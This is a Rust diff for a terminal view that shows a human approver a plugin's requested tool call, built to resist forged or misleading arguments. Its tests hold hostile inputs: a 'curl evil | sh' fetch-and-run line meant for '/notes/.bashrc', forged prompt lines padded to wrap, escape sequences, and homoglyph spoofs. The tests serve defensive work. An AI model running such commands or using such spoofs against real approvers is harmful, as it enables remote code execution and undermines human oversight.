@@ -1,70 +1,149 @@
 //! What an approver sees: who wants what, and every argument whole and escaped, with what it names on this machine and what is odd about it.
 
-use std::fmt::Write as _;
 use std::path::Path;
 use std::time::Instant;
 
-use conclave_core::consult::Risk;
 use conclave_core::grant::{FileGrant, FileMode};
 use conclave_core::policy::{ApprovalRequest, is_odd};
 use serde_json::Value;
 
-use super::about::About;
-use crate::show::{FAINT, NAME, ODD, bytes, one_line, paint, plural, printable};
-
-/// Characters of one argument that are shown before somebody asks for all of it.
-pub(super) const SHOWN: usize = 2_000;
+use super::about::Doer;
+use crate::show::columns::wrap;
+use crate::show::{FAINT, ODD, bytes, foreign, one_line, paint, plural};
 
 /// Characters of an analyzer's reason that are shown.
 const REASON: usize = 1_000;
+/// Stands in front of what the program has to say of an argument: no row of a plugin's begins so.
+const REMARK: &str = "╰ ";
+/// Where the program's own rows begin, behind the sign.
+const INDENT: &str = "      ";
+/// Columns of the names of arguments; a longer one stands above its value.
+const NAME_MAX: usize = 20;
 
-/// What is asked, and whether an argument was cut.
-pub(super) fn shown(request: &ApprovalRequest, about: &About, until: Option<Instant>, most: usize) -> (String, bool) {
-    let ApprovalRequest { task: _, caller, asked_by, tool, arguments, source, rule, expires_ms: _, risk, risk_reason, problem: _ } =
-        request;
-    let source = if rule.is_some() { format!("policy: {}", one_line(source, 80)) } else { one_line(source, 120) };
-    let left = until.map(|until| format!(" · {} left", left(until))).unwrap_or_default();
-    let source = paint(FAINT, format_args!("{source}{left}"));
-    let whose = asked_by.as_ref().map(|plugin| format!(", as a follow-up that {} asks for", paint(NAME, plugin))).unwrap_or_default();
-    let mut text = format!(" {}    {} wants to run for {}{whose}   {source}", paint(ODD, "?"), one_line(tool, 80), paint(NAME, caller));
-    let mut is_cut = false;
-    let mut cut = |value: &str| {
-        let kept: String = value.chars().take(most).collect();
-        let left = value.chars().count().saturating_sub(most);
-        is_cut |= left > 0;
-        let more = if left > 0 { paint(FAINT, format_args!(" … and {left} characters more")) } else { String::new() };
-        printable(&kept) + &more
-    };
-    let files = about.plugin(tool).map(|(_, plugin)| plugin.grants.files.clone()).unwrap_or_default();
-    match arguments {
-        Value::Object(fields) if fields.is_empty() => {}
-        Value::Object(fields) => {
-            let width = fields.keys().map(|name| name.chars().count()).max().unwrap_or(0).min(20);
-            for (name, value) in fields {
-                let name = cut(&told_apart(name));
-                let _ = write!(text, "\n        {name:<width$}  {}{}", cut(&value.to_string()), remark(value, &files));
-            }
-        }
-        other => {
-            let _ = write!(text, "\n        {}", cut(&other.to_string()));
-        }
-    }
-    if let Some(risk) = told_risk(*risk, risk_reason.as_deref()) {
-        let _ = write!(text, "\n        {risk}");
-    }
-    (text, is_cut)
+/// A question about a call, in rows of at most `columns` columns.
+pub(crate) struct ApprovalView {
+    /// What plugins wrote: arguments, briefs, reasons. Each row has a mark in front.
+    foreign: Vec<String>,
+    /// Who wants what, for whom, and why it is asked: the program's own words, to stand directly above the answer.
+    header: Vec<String>,
 }
 
-/// What the task's analyzer says of it; none when nobody was asked.
-pub(crate) fn told_risk(risk: Option<Risk>, reason: Option<&str>) -> Option<String> {
-    let reason = reason.map(|reason| one_line(reason, REASON)).filter(|reason| !reason.is_empty());
-    let style = if risk == Some(Risk::Low) { FAINT } else { ODD };
-    match (risk, reason) {
-        (None, None) => None,
-        (Some(risk), None) => Some(paint(style, format_args!("risk: {}", risk.as_str()))),
-        (Some(risk), Some(reason)) => Some(format!("{} {reason}", paint(style, format_args!("risk: {},", risk.as_str())))),
-        (None, Some(reason)) => Some(format!("{} {reason}", paint(ODD, "risk: not known,"))),
+impl ApprovalView {
+    pub(crate) fn new(request: &ApprovalRequest, doer: Option<&Doer>, until: Option<Instant>, columns: usize) -> Self {
+        let mut foreign = Foreign { rows: Vec::new(), columns };
+        for delegator in &request.delegators {
+            foreign.put(&format!("{} asked for", delegator.plugin), &delegator.brief);
+        }
+        let files = doer.map(|(_, plugin)| &plugin.grants.files[..]).unwrap_or_default();
+        let count = match &request.arguments {
+            Value::Object(fields) => {
+                for (name, value) in fields {
+                    foreign.argument(&told_apart(name), value, files);
+                }
+                fields.len()
+            }
+            other => {
+                foreign.argument("", other, files);
+                1
+            }
+        };
+        if let Some(reason) = &request.risk_reason {
+            let reason: String = reason.chars().take(REASON).collect();
+            foreign.put("why it is a risk", &reason);
+        }
+        Self { foreign: foreign.rows, header: header(request, doer, count as u64, until, columns) }
     }
+
+    /// Returns how many pages there are where `rows` rows fit above the answer.
+    pub(crate) fn pages(&self, rows: usize) -> usize {
+        if self.foreign.len() + self.header.len() <= rows { 1 } else { self.foreign.len().div_ceil(self.page_rows(rows)) }
+    }
+
+    /// Returns a page, counted from 0, with the header below; the last one where there are fewer.
+    pub(crate) fn page(&self, page: usize, rows: usize) -> String {
+        let pages = self.pages(rows);
+        let shown = match pages {
+            1 => self.foreign.clone(),
+            _ => {
+                let (page, each) = (page.min(pages - 1), self.page_rows(rows));
+                let mut shown: Vec<String> = self.foreign.iter().skip(page * each).take(each).cloned().collect();
+                shown.push(paint(ODD, format_args!("{INDENT}page {} of {pages}: read them all before you let it run", page + 1)));
+                shown
+            }
+        };
+        shown.into_iter().chain(self.header.iter().cloned()).collect::<Vec<_>>().join("\n")
+    }
+
+    /// Rows of plugins' text on a page; a few even on a terminal that is too small.
+    fn page_rows(&self, rows: usize) -> usize {
+        rows.saturating_sub(self.header.len() + 1).max(4)
+    }
+}
+
+/// Rows of text that plugins wrote.
+struct Foreign {
+    rows: Vec<String>,
+    columns: usize,
+}
+
+impl Foreign {
+    /// Puts a text behind its name; its further rows stand below its first one.
+    fn put(&mut self, name: &str, text: &str) {
+        let mark = format!("{INDENT}{}", paint(ODD, foreign::MARK));
+        let room = self.columns.saturating_sub(INDENT.len() + foreign::MARK.chars().count() + 1);
+        let name = foreign::escaped(name).replace('\n', "\\n");
+        let is_short = name.is_ascii() && name.len() <= NAME_MAX;
+        let width = if is_short && room > 2 * NAME_MAX { name.len().max(8) + 2 } else { 2 };
+        let mut first = name.clone();
+        if width == 2 && !name.is_empty() {
+            self.rows.extend(foreign::rows(&name, room).into_iter().map(|row| format!("{mark}{row}")));
+            first.clear();
+        }
+        for row in foreign::rows(text, room.saturating_sub(width)) {
+            self.rows.push(format!("{mark}{:<width$}{row}", std::mem::take(&mut first)));
+        }
+    }
+
+    fn argument(&mut self, name: &str, value: &Value, files: &[FileGrant]) {
+        self.put(name, &value.to_string());
+        let room = self.columns.saturating_sub(INDENT.len() + REMARK.chars().count() + 1);
+        let mark = format!("{INDENT}{}", paint(ODD, REMARK));
+        for remark in remarks(value, files) {
+            self.rows.extend(foreign::rows(&remark, room).into_iter().map(|row| format!("{mark}{row}")));
+        }
+    }
+}
+
+/// Who wants what, who set them to work, and why somebody is asked.
+fn header(request: &ApprovalRequest, doer: Option<&Doer>, arguments: u64, until: Option<Instant>, columns: usize) -> Vec<String> {
+    let tool = one_line(&request.tool, 80);
+    let whose = request.asked_by.as_ref().map(|plugin| format!(", as a follow-up that {plugin} asks for")).unwrap_or_default();
+    let with = match arguments {
+        0 => "without arguments".to_owned(),
+        count => format!("with {}", plural(count, "argument", "arguments")),
+    };
+    let mut rows = vec![format!("{tool} wants to run for {}{whose}, {with}", request.caller)];
+    for delegator in request.delegators.iter().rev() {
+        rows.push(format!("set to work by {} in the task {}", delegator.plugin, one_line(delegator.task.as_str(), 80)));
+    }
+    if let Some((name, plugin)) = doer.filter(|_| request.executor.is_some()) {
+        let folders: Vec<&str> = plugin.grants.files.iter().map(|grant| grant.shown.as_str()).collect();
+        let where_to = if folders.is_empty() { String::new() } else { format!(", in {}", one_line(&folders.join(", "), 120)) };
+        rows.push(format!("carried out by {name}{where_to}"));
+    }
+    let source =
+        if request.rule().is_some() { format!("policy: {}", one_line(&request.source, 160)) } else { one_line(&request.source, 200) };
+    let left = until.map(|until| format!(" · {} left", left(until))).unwrap_or_default();
+    let risk = request.risk.map(|risk| format!("{} risk · ", risk.as_str())).unwrap_or_default();
+    rows.push(format!("{risk}{source}{left}"));
+    let room = columns.saturating_sub(INDENT.len() + 1);
+    let lines = rows.iter().enumerate().flat_map(|(index, row)| wrap(row, room).into_iter().map(move |line| (index, line)));
+    let styled = lines.enumerate().map(|(at, (index, line))| match (at, index) {
+        (0, _) => format!(" {}    {line}", paint(ODD, "?")),
+        (_, 0) => format!("{INDENT}{line}"),
+        _ => format!("{INDENT}{}", paint(FAINT, line)),
+    });
+    styled.collect()
 }
 
 /// `10 min`, `40 s`.
@@ -79,29 +158,28 @@ fn told_apart(name: &str) -> String {
     if is_plain { name.to_owned() } else { Value::from(name).to_string() }
 }
 
-/// What to know of an argument besides its text; empty when there is nothing.
-fn remark(value: &Value, files: &[FileGrant]) -> String {
-    let mixed =
-        if has_mixed_words(value) { "  ".to_owned() + &paint(ODD, "(letters of several alphabets in one word)") } else { String::new() };
-    let Value::String(text) = value else { return mixed };
-    let mut remarks: Vec<String> = Vec::new();
-    let in_folder = files.iter().find_map(|grant| Some((grant, inside(grant, text)?)));
-    match in_folder {
-        Some(_) if is_odd(text) => remarks.push(paint(ODD, "(does not say plainly where it leads)")),
-        Some((grant, rest)) => remarks.push(paint(FAINT, format_args!("({})", printable(&on_disk(grant, rest))))),
+/// What to know of an argument besides its text.
+fn remarks(value: &Value, files: &[FileGrant]) -> Vec<String> {
+    let mut remarks = Vec::new();
+    if let Some((word, seen)) = look_alike_in(value) {
+        remarks.push(format!("letters of other alphabets: {word} looks like {seen}"));
+    }
+    let Value::String(text) = value else { return remarks };
+    match files.iter().find_map(|grant| Some((grant, inside(grant, text)?))) {
+        Some(_) if is_odd(text) => remarks.push("it does not say plainly where it leads".to_owned()),
+        Some((grant, rest)) => remarks.push(on_disk(grant, rest)),
         None => {}
     }
-    remarks.iter().fold(String::new(), |text, remark| text + "  " + remark) + &mixed
+    remarks
 }
 
-/// A word in it, at any depth, has letters of several alphabets.
-fn has_mixed_words(value: &Value) -> bool {
-    let is_mixed = |text: &str| text.split(|c: char| !c.is_alphanumeric()).any(mixes_alphabets);
+/// A word in it, at any depth, that looks like another.
+fn look_alike_in(value: &Value) -> Option<(String, String)> {
     match value {
-        Value::String(text) => is_mixed(text),
-        Value::Array(items) => items.iter().any(has_mixed_words),
-        Value::Object(fields) => fields.iter().any(|(name, value)| is_mixed(name) || has_mixed_words(value)),
-        _ => false,
+        Value::String(text) => foreign::look_alike(text),
+        Value::Array(items) => items.iter().find_map(look_alike_in),
+        Value::Object(fields) => fields.iter().find_map(|(name, value)| foreign::look_alike(name).or_else(|| look_alike_in(value))),
+        _ => None,
     }
 }
 
@@ -129,48 +207,53 @@ fn on_disk(grant: &FileGrant, rest: &str) -> String {
     }
 }
 
-/// Latin letters and others that look like them stand in one word.
-fn mixes_alphabets(word: &str) -> bool {
-    let is_lookalike = |c: char| {
-        matches!(c, '\u{370}'..='\u{3ff}' | '\u{400}'..='\u{52f}' | '\u{530}'..='\u{58f}' | '\u{13a0}'..='\u{13ff}'
-            | '\u{1d400}'..='\u{1d7ff}' | '\u{ff21}'..='\u{ff5a}')
-    };
-    word.chars().any(is_lookalike) && word.chars().any(|c| c.is_ascii_alphabetic())
-}
-
 #[cfg(test)]
 mod tests {
     use std::time::Duration;
 
+    use conclave_core::consult::Risk;
+    use conclave_core::policy::{ApprovalCause, Delegator};
+    use proptest::prelude::*;
     use serde_json::json;
 
     use super::super::about::testing::{about, request};
     use super::*;
 
-    fn plain(request: &ApprovalRequest, most: usize) -> (String, bool) {
+    fn view(request: &ApprovalRequest, columns: usize) -> ApprovalView {
         let about = about(Path::new("/nowhere/notes"), Path::new("/nowhere/conclave.toml"));
-        let (text, is_cut) = shown(request, &about, None, most);
-        (anstream::adapter::strip_str(&text).to_string(), is_cut)
+        ApprovalView::new(request, about.plugin_of(request).as_ref(), None, columns)
+    }
+
+    fn plain(text: &str) -> String {
+        anstream::adapter::strip_str(text).to_string()
+    }
+
+    fn shown(request: &ApprovalRequest, columns: usize) -> String {
+        plain(&view(request, columns).page(0, usize::MAX))
     }
 
     #[test]
     fn a_request_shows_what_runs_for_whom_and_with_what() {
-        let (text, is_cut) = plain(&request(json!({ "path": "/notes/a.md", "text": "lit in 1844" })), 300);
-        assert_eq!(
-            text,
-            " ?    notes.save wants to run for librarian   policy: conclave.toml:49\n        \
-             path  \"/notes/a.md\"  (a new file in notes/)\n        text  \"lit in 1844\""
+        let text = shown(&request(json!({ "path": "/notes/a.md", "text": "lit in 1844" })), 100);
+        let expected = concat!(
+            "      │ path      \"/notes/a.md\"\n",
+            "      ╰ a new file in notes/\n",
+            "      │ text      \"lit in 1844\"\n",
+            " ?    notes.save wants to run for librarian, with 2 arguments\n",
+            "      policy: conclave.toml:49",
         );
-        assert!(!is_cut);
+        assert_eq!(text, expected);
     }
 
     #[test]
     fn without_a_rule_it_says_what_the_plugin_may_do_and_how_long_there_is() {
-        let derived = ApprovalRequest { rule: None, source: "notes may write notes/".into(), ..request(json!({})) };
+        let derived =
+            ApprovalRequest { causes: vec![ApprovalCause::Grants], source: "notes may write notes/".into(), ..request(json!({})) };
         let about = about(Path::new("/nowhere"), Path::new("/nowhere/conclave.toml"));
-        let (text, _) = shown(&derived, &about, Some(Instant::now() + Duration::from_secs(600)), 300);
-        let text = anstream::adapter::strip_str(&text).to_string();
-        assert_eq!(text, " ?    notes.save wants to run for librarian   notes may write notes/ · 10 min left");
+        let until = Some(Instant::now() + Duration::from_secs(600));
+        let text = plain(&ApprovalView::new(&derived, about.plugin_of(&derived).as_ref(), until, 100).page(0, 40));
+        let expected = " ?    notes.save wants to run for librarian, without arguments\n      notes may write notes/ · 10 min left";
+        assert_eq!(text, expected);
     }
 
     #[test]
@@ -180,41 +263,109 @@ mod tests {
         std::fs::create_dir(temp.path().join("sub")).unwrap();
         let about = about(temp.path(), Path::new("/nowhere/conclave.toml"));
         let of = |path: &str| {
-            let text = shown(&request(json!({ "path": path })), &about, None, 300).0;
-            anstream::adapter::strip_str(&text).to_string()
+            let request = request(json!({ "path": path }));
+            plain(&ApprovalView::new(&request, about.plugin_of(&request).as_ref(), None, 100).page(0, 40))
         };
-        assert!(of("/notes/a.md").contains("(notes/a.md, 3 B now)"), "{}", of("/notes/a.md"));
-        assert!(of("/notes/sub").contains("(the folder notes/sub/)"));
-        assert!(of("/notes/sub/b.md").contains("(a new file in notes/, 1 folder down)"));
-        assert!(of("/notes/sub/../../x").contains("(does not say plainly where it leads)"));
-        assert!(!of("/notesy/a.md").contains('('));
+        assert!(of("/notes/a.md").contains("╰ notes/a.md, 3 B now"), "{}", of("/notes/a.md"));
+        assert!(of("/notes/sub").contains("╰ the folder notes/sub/"));
+        assert!(of("/notes/sub/b.md").contains("╰ a new file in notes/, 1 folder down"));
+        assert!(of("/notes/sub/../../x").contains("╰ it does not say plainly where it leads"));
+        assert!(!of("/notesy/a.md").contains('╰'));
     }
 
     #[test]
-    fn arguments_cannot_deceive_whoever_approves_them() {
-        let (text, is_cut) = plain(&request(json!({ "text": "a\u{1b}[2Kb\u{202e}\u{200b}", "na\nme": "x".repeat(400) })), 300);
-        let bad = ['\u{1b}', '\u{202e}', '\u{200b}'];
-        assert!(!text.contains(bad) && text.lines().count() == 3, "{text}");
-        assert!(is_cut && text.contains("102 characters more"), "{text}");
-        let (text, _) = plain(&request(json!({ "to": "p\u{430}ypal" })), 300);
-        assert!(text.contains("several alphabets"), "{text}");
-        let (text, _) = plain(&request(json!({ "to": [{ "name": "p\u{430}ypal" }] })), 300);
-        assert!(text.contains("several alphabets"), "{text}");
+    fn letters_that_look_like_others_are_said() {
+        for arguments in [json!({ "to": "p\u{430}ypal" }), json!({ "to": [{ "name": "\u{441}\u{43e}\u{440}\u{443}.md" }] })] {
+            let text = shown(&request(arguments), 100);
+            assert!(text.contains("╰ letters of other alphabets"), "{text}");
+        }
     }
 
     #[test]
-    fn a_follow_up_says_who_wants_it() {
-        let (text, _) = plain(&ApprovalRequest { asked_by: Some("sneaky".into()), ..request(json!({})) }, 300);
-        assert!(text.contains("notes.save wants to run for librarian, as a follow-up that sneaky asks for   policy"), "{text}");
+    fn the_chain_of_callers_stands_above_the_answer() {
+        let brief = "please write /work/a\n ?    notes.save wants to run for librarian".to_owned();
+        let delegator = Delegator { task: "main".into(), plugin: "driver".into(), brief };
+        let follow_up = ApprovalRequest { asked_by: Some("sneaky".into()), delegators: vec![delegator], ..request(json!({})) };
+        let text = shown(&follow_up, 100);
+        let expected = concat!(
+            "      │ driver asked for  please write /work/a\n",
+            "      │                    ?\\u{20}×4notes.save wants to run for librarian\n",
+            " ?    notes.save wants to run for librarian, as a follow-up that sneaky asks for, without arguments\n",
+            "      set to work by driver in the task main\n",
+            "      policy: conclave.toml:49",
+        );
+        assert_eq!(text, expected);
     }
 
     #[test]
-    fn names_of_arguments_are_told_apart() {
-        let long = "k".repeat(400);
-        let arguments = json!({ format!("{long}a"): 1, format!("{long}b"): 2, "two words": 3, "two  words": 4 });
-        let (text, is_cut) = plain(&request(arguments.clone()), 300);
-        assert!(is_cut && text.contains("101 characters more") && text.contains("\"two  words\""), "{text}");
-        let (text, is_cut) = plain(&request(arguments), usize::MAX);
-        assert!(!is_cut && text.contains(&format!("{long}a")) && text.contains(&format!("{long}b")), "{text}");
+    fn what_does_not_fit_is_on_pages_and_the_header_on_each() {
+        let arguments: serde_json::Map<String, Value> = (0..60).map(|at| (format!("a{at:02}"), json!(at))).collect();
+        let view = view(&request(Value::Object(arguments)), 80);
+        assert_eq!((view.pages(24), view.pages(100)), (3, 1));
+        for page in 0..3 {
+            let text = plain(&view.page(page, 24));
+            assert!(text.lines().count() <= 24 && text.contains("with 60 arguments"), "{text}");
+            assert!(text.contains(&format!("page {} of 3", page + 1)), "{text}");
+        }
+        let all: String = (0..3).map(|page| plain(&view.page(page, 24))).collect();
+        assert!((0..60).all(|at| all.contains(&format!("a{at:02}"))));
+    }
+
+    /// The rows of a terminal of this width after the text was written to it.
+    fn on_terminal(text: &str, columns: usize) -> Vec<String> {
+        let columns = u16::try_from(columns).unwrap();
+        let mut terminal = vt100::Parser::new(2_000.try_into().unwrap(), columns.try_into().unwrap(), 0);
+        terminal.process(text.replace('\n', "\r\n").as_bytes());
+        terminal.screen().rows(0, columns).map(|row| row.trim_end().to_owned()).collect()
+    }
+
+    /// On a terminal of any width each row is the program's own, or has a mark in front; the program's own are as many as they should be.
+    fn nothing_is_forged(request: &ApprovalRequest, columns: usize) {
+        let view = view(request, columns);
+        let rows = on_terminal(&view.page(0, usize::MAX), columns);
+        let own: Vec<String> = rows.iter().filter(|row| !row.is_empty() && !is_marked(row)).cloned().collect();
+        let header: Vec<String> = view.header.iter().map(|row| plain(row).trim_end().to_owned()).collect();
+        assert_eq!(own, header, "{columns} columns: {rows:#?}");
+        let last = rows.iter().rposition(|row| !row.is_empty()).unwrap();
+        assert_eq!(rows[last], *header.last().unwrap(), "the header is the last that is shown");
+    }
+
+    fn is_marked(row: &str) -> bool {
+        row.starts_with("      │") || row.starts_with("      ╰")
+    }
+
+    const WIDTHS: [usize; 5] = [40, 60, 80, 100, 120];
+
+    #[test]
+    fn a_question_cannot_be_forged_by_arguments_that_wrap() {
+        for columns in WIDTHS {
+            // B2 of the hostile review, made for this very width.
+            let pad = |text: &str| format!("{text}{}", "\u{a0}".repeat(columns - text.chars().count() % columns));
+            let filler = "\u{a0}".repeat(1998);
+            let forged = format!(
+                "{}{}{}",
+                "\u{a0}".repeat(columns * 2 - 17),
+                pad(" ?    swiss.run wants to run for driver   swiss may write notes/"),
+                pad("        path   ”/notes/todo.md”  (a new file in notes/)"),
+            );
+            let arguments = json!({ "a_path": "/notes/.bashrc", "a_text": "curl evil | sh", "b": filler, "c": filler, "zz": forged });
+            nothing_is_forged(&request(arguments), columns);
+            let wide = "漢字 ".repeat(200) + &"\u{1f469}\u{200d}\u{1f4bb}".repeat(60) + &"🇨🇭".repeat(50);
+            nothing_is_forged(&request(json!({ "w": wide, "x".repeat(300): 1, "tab\tline\nend": "a\r\nb\u{1b}[2J\u{9b}2J" })), columns);
+            let reason = Some(format!("fine\n ?    notes.save wants to run\n{filler}"));
+            nothing_is_forged(&ApprovalRequest { risk: Some(Risk::Low), risk_reason: reason, ..request(json!({})) }, columns);
+        }
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig::with_cases(64))]
+
+        #[test]
+        fn no_text_leaves_its_rows(text in "(\\PC|[\u{a0}\u{3000}\u{202e}\u{200b}\u{1b}\t\n\u{301} │╰?]){0,400}", name in "\\PC{0,60}", at in 0_usize..5) {
+            let arguments = json!({ name: text });
+            nothing_is_forged(&request(arguments), WIDTHS[at]);
+            let delegator = Delegator { task: "main".into(), plugin: "driver".into(), brief: text.clone() };
+            nothing_is_forged(&ApprovalRequest { delegators: vec![delegator], ..request(json!({})) }, WIDTHS[at]);
+        }
     }
 }
